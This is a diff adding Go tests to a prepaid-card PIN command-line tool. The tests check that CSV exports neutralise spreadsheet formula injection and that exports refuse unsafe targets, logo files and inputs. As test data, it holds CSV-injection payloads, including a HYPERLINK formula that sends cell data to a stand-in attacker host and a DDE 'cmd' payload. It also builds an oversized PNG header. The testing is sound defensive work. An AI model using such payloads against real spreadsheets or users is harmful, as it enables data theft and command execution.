@@ -1,7 +1,11 @@
 package app
 
 import (
+	"bytes"
 	"context"
+	"encoding/binary"
+	"encoding/csv"
+	"hash/crc32"
 	"os"
 	"path/filepath"
 	"strings"
@@ -225,5 +229,141 @@ func TestDamagedDatabaseRefusedByEveryCommand(t *testing.T) {
 		if after, _ := os.ReadFile(c.db); string(after) != string(before) {
 			t.Fatalf("%s changed the damaged file", strings.Join(args, " "))
 		}
+	}
+}
+
+// Issue 9, row 1: a cell that a spreadsheet would run as a formula is
+// neutralised in every CSV the program writes.
+func TestCSVInjectionNeutralised(t *testing.T) {
+	c := newCLI(t)
+	pins := c.sample()
+	evil := `=HYPERLINK("http://evil.example/steal?d="&B2,"Support")`
+	c.ok("redeem", "--pin", pins["3-000000005"], "--client", evil)
+	c.ok("resellers", "add", "+cmd|' /C calc'!A0")
+	c.ok("resellers", "add", "@SUM(1+1)")
+	out := filepath.Join(t.TempDir(), "x.csv")
+	c.ok("export", "--out", out)
+	b, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	texts := map[string]string{"export": string(b), "list": c.ok("list", "--format", "csv"),
+		"history": c.ok("history", "--format", "csv", "--limit", "1000")}
+	for what, text := range texts {
+		recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+		found := false
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s CSV has a cell a spreadsheet would run: %q", what, cell)
+				}
+				if strings.Contains(cell, "HYPERLINK") {
+					found = true
+				}
+			}
+		}
+		if what != "history" && !found {
+			t.Errorf("%s CSV lost the client's name", what)
+		}
+	}
+}
+
+// Issue 9, rows 6, 10, 11, 12: the export's own inputs and target.
+func TestExportRefusesBadInputsAndOwnFiles(t *testing.T) {
+	c := newCLI(t)
+	c.sample()
+	dir := t.TempDir()
+	before := c.state()
+	// Never over the database, its journal files or its backups.
+	c.ok("backups", "create")
+	shop := filepath.Join(dir, "shop.csv")
+	runArgs(t, "generate", "--db", shop, "--amount", "1", "--quantity", "2", "--series", "1")
+	shopBefore, _ := os.ReadFile(shop)
+	r := runArgs(t, "export", "--db", shop, "--out", shop, "--force")
+	checkFailure(t, r, ExitUsage, []string{"that is the open card database"}, "export --db shop.csv --out shop.csv")
+	if after, _ := os.ReadFile(shop); !bytes.Equal(after, shopBefore) {
+		t.Error("the export wrote over the database")
+	}
+	c.fails(ExitUsage, []string{"backups folder"}, "export", "--out", filepath.Join(filepath.Dir(c.db), "backups", "x.csv"), "--force")
+	// The same file under another name (a symlink named .csv).
+	link := filepath.Join(dir, "shop.csv")
+	if err := os.Symlink(c.db, link); err == nil {
+		c.fails(ExitUsage, []string{"open card database"}, "export", "--out", link, "--force")
+	}
+	if _, err := os.Stat(c.db); err != nil {
+		t.Fatal(err)
+	}
+	// --across 0, --down 0: usage errors, not silently the default.
+	c.fails(ExitUsage, []string{"--across"}, "export", "--out", filepath.Join(dir, "a.xlsx"), "--across", "0")
+	c.fails(ExitUsage, []string{"--down"}, "export", "--out", filepath.Join(dir, "a.pdf"), "--down", "0")
+	// Control characters in the QR template.
+	c.fails(ExitUsage, []string{"control character"}, "export", "--out", filepath.Join(dir, "a.pdf"), "--qr-template", "https://x.example/?p={pin}\x1b[2J")
+	// A logo that is a FIFO, a device, or a PNG declaring 20000 × 20000
+	// pixels: refused at once.
+	fifo := filepath.Join(dir, "logo.png")
+	if err := syscall.Mkfifo(fifo, 0o600); err == nil {
+		r := runProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "b.pdf"), "--logo", fifo)
+		checkFailure(t, r, ExitUsage, []string{"not a regular file"}, "export --logo FIFO")
+	}
+	r = runProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "b.pdf"), "--logo", "/dev/zero")
+	checkFailure(t, r, ExitUsage, []string{"not a regular file"}, "export --logo /dev/zero")
+	huge := filepath.Join(dir, "huge.png")
+	if err := os.WriteFile(huge, pngHeader(20000, 20000), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c.fails(ExitUsage, []string{"20000 × 20000 pixels is larger than 4096 × 4096"}, "export", "--out", filepath.Join(dir, "b.pdf"), "--logo", huge)
+	entries, _ := os.ReadDir(dir)
+	for _, e := range entries {
+		if n := e.Name(); n != "logo.png" && n != "huge.png" && n != "shop.csv" && !strings.HasPrefix(n, "shop.csv-") && n != "backups" {
+			t.Errorf("a refused export left %s", e.Name())
+		}
+	}
+	c.ok("backups", "list")
+	_ = before
+}
+
+// pngHeader is the start of a PNG that declares w × h pixels: what a
+// decoder reads before it allocates.
+func pngHeader(w, h uint32) []byte {
+	var b bytes.Buffer
+	b.WriteString("\x89PNG\r\n\x1a\n")
+	ihdr := make([]byte, 13)
+	binary.BigEndian.PutUint32(ihdr[0:], w)
+	binary.BigEndian.PutUint32(ihdr[4:], h)
+	ihdr[8], ihdr[9] = 8, 6 // 8 bits, RGBA
+	binary.Write(&b, binary.BigEndian, uint32(len(ihdr)))
+	chunk := append([]byte("IHDR"), ihdr...)
+	b.Write(chunk)
+	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(chunk))
+	b.Write(make([]byte, 64))
+	return b.Bytes()
+}
+
+// Issue 9, row 3: an export killed outright leaves its private folder; the
+// next start of the program removes it.
+func TestKilledExportCleanedUpOnNextStart(t *testing.T) {
+	if testing.Short() {
+		t.Skip("starts subprocesses")
+	}
+	c := newCLI(t)
+	c.ok("generate", "--amount", "1", "--quantity", "30000", "--series", "3")
+	dir := t.TempDir()
+	cmd, _, errb := cliProcess(t, "export", "--db", c.db, "--out", filepath.Join(dir, "sheets.xlsx"))
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	if !waitFor(ctx, func() bool { m, _ := filepath.Glob(filepath.Join(dir, ".sheets.xlsx.tmp-*")); return len(m) > 0 }) {
+		t.Fatalf("the export made no work folder (stderr %q)", errb)
+	}
+	cmd.Process.Kill()
+	cmd.Wait()
+	if m, _ := filepath.Glob(filepath.Join(dir, ".sheets.xlsx.tmp-*")); len(m) == 0 {
+		t.Fatal("the killed export left nothing: the test proves nothing")
+	}
+	c.ok("history", "--limit", "1")
+	if left, _ := os.ReadDir(dir); len(left) != 0 {
+		t.Errorf("after the next start %s is still there", left[0].Name())
 	}
 }
